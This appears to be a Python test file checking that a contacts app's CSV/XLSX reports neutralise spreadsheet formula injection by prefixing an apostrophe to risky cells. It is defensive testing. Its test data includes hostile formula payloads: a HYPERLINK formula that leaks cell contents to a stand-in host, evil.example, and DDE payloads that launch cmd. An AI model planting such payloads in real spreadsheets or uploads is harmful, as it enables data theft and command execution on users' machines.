"""Formula injection through the files the app writes: a spreadsheet program runs a cell that
starts with =, +, -, @, a tab or a carriage return. Whatever an uploaded file holds, in its
column names as in its rows, the report of rejected rows sent back to staff carries no cell
that starts with one of them."""

import ast
import csv
import io
from pathlib import Path

import pytest

import jeg_contacts
from jeg_contacts.spreadsheets import CsvWriter
from tests.imports.conftest import HEADER, csv_bytes, row, xlsx_bytes
from tests.imports.web_import import preview_url, upload

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# Column names an attacker chose, each starting with one of the triggers.
HOSTILE_HEADER = [
    *HEADER,
    '=HYPERLINK("https://evil.example/?"&A2,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+3",
]
HOSTILE_VALUES = [
    '=HYPERLINK("https://evil.example","x")',
    "+41 cmd",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=9",
    "\r=8",
]


def hostile_rows() -> list[list[str]]:
    """Rows the import rejects (so they go into the report), full of formula triggers."""
    return [
        # Every field valid but the email, which is a formula.
        ['=HYPERLINK("https://evil.example","ana@example.org")', *row("x")[1:], *HOSTILE_VALUES],
        # A name starting with a trigger, and a type nobody knows.
        row("bo@example.org", "-Bo", "@Berg", type="+cmd|' /C calc'!A0") + HOSTILE_VALUES,
        row("cy@example.org", "\tCy", "\rDee", type="=1+1") + HOSTILE_VALUES,
    ]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_rejected_rows_report_neutralises_header_cells_and_values(app, editor_client, kind):
    if kind == "csv":
        content, name = csv_bytes(hostile_rows(), header=HOSTILE_HEADER), "hostile.csv"
    else:
        content, name = xlsx_bytes(hostile_rows(), header=HOSTILE_HEADER), "hostile.xlsx"
    url = preview_url(upload(editor_client, content, name))
    assert "<strong>3</strong> rejected" in editor_client.get(url).get_data(as_text=True)

    with editor_client.get(url + "/rejected.csv") as response:
        assert response.status_code == 200
        assert response.mimetype == "text/csv"
        text = response.get_data().decode("utf-8-sig")
    cells = list(csv.reader(io.StringIO(text, newline="")))

    assert len(cells) == 4, cells  # the header and the three rejected rows
    header = cells[0]
    assert header[:2] == ["Row", "Problems"]
    dangerous = [
        (number, cell) for number, line in enumerate(cells) for cell in line if cell[:1] in TRIGGERS
    ]
    assert dangerous == []
    # Neutralised, not dropped: the attacker's column names are there, behind an apostrophe.
    assert "'" + HOSTILE_HEADER[len(HEADER)] in header
    assert "'+1+cmd|' /C calc'!A0" in header
    assert "'@SUM(1+9)*cmd|' /C calc'!A0" in header
    for line in cells[1:]:
        assert "'-1+1" in line
        assert "'@SUM(A1:A9)" in line


# Calls that write a CSV or an XLSX file; only the neutralising writers may make them.
RAW_WRITERS = {"csv.writer", "csv.DictWriter", "SheetWriter", "xlsx.SheetWriter", "Workbook"}
NEUTRALISING_WRITERS = {("spreadsheets.py", "CsvWriter"), ("exports/writers.py", "XlsxWriter")}


def test_the_app_writes_csv_and_xlsx_only_through_the_neutralising_writers():
    """A new report or export written with csv.writer or SheetWriter directly would skip the
    neutralising: every such call in the package is inside CsvWriter or XlsxWriter."""
    package = Path(jeg_contacts.__file__).parent
    found, outside = set(), []
    for path in sorted(package.rglob("*.py")):
        module = path.relative_to(package).as_posix()
        tree = ast.parse(path.read_text(encoding="utf-8"))
        allowed = set()
        for node in ast.walk(tree):
            if isinstance(node, ast.ClassDef) and (module, node.name) in NEUTRALISING_WRITERS:
                allowed |= {id(inner) for inner in ast.walk(node)}
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and ast.unparse(node.func) in RAW_WRITERS:
                if id(node) in allowed:
                    found.add(ast.unparse(node.func))
                else:
                    outside.append(f"{module}:{node.lineno} {ast.unparse(node.func)}")

    assert outside == []
    assert found == {"csv.writer", "SheetWriter"}  # the check above looked at the right code


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_the_csv_writer_neutralises_a_trigger_in_any_cell(delimiter):
    """Its shortcut for rows that need nothing must never skip a cell that does."""
    plain = ["ana@example.org", "Ana", "Silva", "", "DE"]
    rows = [
        plain,
        *(
            [*plain[:position], trigger + "cmd", *plain[position + 1 :]]
            for trigger in TRIGGERS
            for position in range(len(plain))
        ),
    ]
    out = io.StringIO(newline="")
    writer = CsvWriter(out, delimiter)
    for values in rows:
        writer.writerow(values)

    written = list(csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=delimiter))
    assert written[0] == plain
    for values, line in zip(rows[1:], written[1:], strict=True):
        assert line == ["'" + value if value[:1] in TRIGGERS else value for value in values]
